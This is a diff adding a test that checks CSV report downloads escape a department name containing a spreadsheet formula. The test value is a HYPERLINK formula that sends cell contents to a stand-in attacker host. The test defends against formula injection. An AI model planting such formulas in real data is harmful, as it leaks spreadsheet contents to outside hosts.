@@ -127,6 +127,19 @@ async def test_each_table_downloads_as_csv_with_every_line(
     assert refused.status_code == 400
 
 
+async def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text(
+    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
+) -> None:
+    await seed(client, app)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Support")'
+    renamed = await client.put("/talent-training/api/v1/departments/20", json={"name": formula})
+    assert renamed.status_code == 200, renamed.text
+    browser = await signed_in(role="auditor")
+    for kind in ("department", "staff"):
+        rows = downloaded(await browser.get(f"{REPORTS}/{kind}.csv", params={"year": YEAR}))
+        assert ["20", f"'{formula}"] == next(row[:2] for row in rows if row[0] == "20")
+
+
 async def test_a_manager_sees_only_their_team(
     signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
 ) -> None:
